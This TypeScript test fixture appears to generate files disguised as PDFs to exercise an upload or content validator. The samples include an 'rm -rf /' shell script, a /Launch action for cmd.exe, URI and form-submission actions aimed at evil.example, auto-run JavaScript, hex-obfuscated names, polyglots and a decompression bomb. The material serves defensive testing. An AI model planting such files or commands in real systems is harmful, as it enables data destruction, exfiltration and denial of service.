import { deflateSync } from 'node:zlib';
import type { HostileContent } from './hostile-content.ts';
import { objectStream, pdf, stream } from './pdf.ts';
import { zip } from './zip.ts';

const program = Buffer.concat([Buffer.from('MZ\x90\0\x03', 'latin1'), Buffer.alloc(2000, 1)]);
const page = Buffer.from('<!doctype html><html><script>alert(1)</script></html>');
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Files that call themselves PDF. */
export function hostilePdfs(): HostileContent[] {
  const honest = pdf();
  const jar = zip([{ name: 'Main.class', data: 'cafebabe' }]);
  const bomb = deflateSync(Buffer.alloc(20 * 1024 * 1024));
  return [
    ['a web page as PDF', 'page.pdf', page],
    ['a program as PDF', 'program.pdf', program],
    [
      'a Linux program as PDF',
      'elf.pdf',
      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(500)]),
    ],
    ['a shell script as PDF', 'sh.pdf', Buffer.from('#!/bin/sh\nrm -rf /\n%%EOF')],
    ['a zip as PDF', 'zip.pdf', jar],
    ['text as PDF', 'text.pdf', Buffer.from('사업계획서')],
    ['a web page before the PDF', 'before.pdf', Buffer.concat([page, honest])],
    ['a PDF cut off in the middle', 'cut.pdf', honest.subarray(0, honest.length - 60)],
    ['nothing but a PDF’s first line', 'head.pdf', Buffer.from('%PDF-1.7\n')],
    ['a zip behind the PDF', 'polyglot.pdf', Buffer.concat([honest, jar])],
    [
      'a zip that ends in the PDF’s end',
      'inside.pdf',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), zip([{ name: 'a.class', data: 'x' }], { comment: honest })]),
    ],
    ['a web page behind the PDF', 'behind.pdf', Buffer.concat([honest, page])],
    ['a program behind the PDF', 'exe-behind.pdf', Buffer.concat([honest, program])],
    ['a PDF that runs a script when opened', 'open.pdf', pdf({ catalog: `/OpenAction ${script}` })],
    [
      'a PDF that runs a script when opened, by reference',
      'ref.pdf',
      pdf({ catalog: '/OpenAction 4 0 R', more: [script] }),
    ],
    [
      'a PDF with a named script',
      'named.pdf',
      pdf({ catalog: '/Names << /JavaScript 4 0 R >>', more: ['<< >>'] }),
    ],
    ['a PDF with a script when printed', 'aa.pdf', pdf({ catalog: `/AA << /WP ${script} >>` })],
    ['a script whose name is written in hex', 'hex.pdf', pdf({ more: ['<< /S /J#61va#53cript /JS (1) >>'] })],
    ['a script behind a comment', 'comment.pdf', pdf({ more: ['<< /S %(\n/JavaScript /JS (1) >>'] })],
    ['a script right behind its key', 'tight.pdf', pdf({ more: ['<</S/JavaScript/JS(1)>>'] })],
    ['a PDF that starts a program', 'launch.pdf', pdf({ more: ['<< /S /Launch /F (cmd.exe) >>'] })],
    [
      'a PDF that opens an address',
      'uri.pdf',
      pdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example) >>' }),
    ],
    [
      'a PDF that opens an address, by reference',
      'uri-ref.pdf',
      pdf({ catalog: '/OpenAction 4 0 R', more: ['<< /S /URI /URI (http://evil.example) >>'] }),
    ],
    [
      'a PDF that sends its form',
      'form.pdf',
      pdf({ more: ['<< /S /SubmitForm /F (http://evil.example) >>'] }),
    ],
    ['a PDF that takes in data', 'import.pdf', pdf({ more: ['<< /S /ImportData /F (x) >>'] })],
    ['a PDF with a rich form', 'xfa.pdf', pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', more: ['<< >>'] })],
    ['a PDF with a film that scripts', 'media.pdf', pdf({ more: ['<< /Subtype /RichMedia >>'] })],
    [
      'a PDF that carries a file',
      'carries.pdf',
      pdf({ catalog: '/Names << /EmbeddedFiles 4 0 R >>', more: [stream('/Type /EmbeddedFile', program)] }),
    ],
    ['a PDF that goes into a file it carries', 'gotoe.pdf', pdf({ more: ['<< /S /GoToE /T << >> >>'] })],
    ['a script in an object stream', 'objstm.pdf', pdf({ more: [objectStream({ 10: script })] })],
    [
      'an opening action in an object stream',
      'objstm-uri.pdf',
      pdf({
        catalog: '/OpenAction 10 0 R',
        more: [objectStream({ 10: '<< /S /URI /URI (http://evil.example) >>' })],
      }),
    ],
    [
      'an object stream named in hex',
      'objstm-hex.pdf',
      pdf({
        more: [
          Buffer.from(
            objectStream({ 10: script }).toString('latin1').replace('/ObjStm', '/Obj#53tm'),
            'latin1',
          ),
        ],
      }),
    ],
    [
      'an object stream through a filter nobody looks into',
      'filter.pdf',
      pdf({ more: [objectStream({ 10: '<< >>' }, '/Filter [/ASCIIHexDecode /FlateDecode]')] }),
    ],
    [
      'an object stream that unpacks into too much',
      'bomb.pdf',
      pdf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] }),
    ],
    [
      'an object stream that is broken',
      'broken.pdf',
      pdf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'no zlib')] }),
    ],
    [
      'a PDF protected against printing',
      'protected.pdf',
      pdf({ trailer: '/Encrypt 4 0 R', more: ['<< /Filter /Standard /V 2 /R 3 /P -3904 >>'] }),
    ],
    [
      'encrypted object streams',
      'encrypted.pdf',
      pdf({ trailer: '/Encrypt 5 0 R', more: [objectStream({ 10: '<< >>' }), '<< /Filter /Standard >>'] }),
    ],
  ];
}
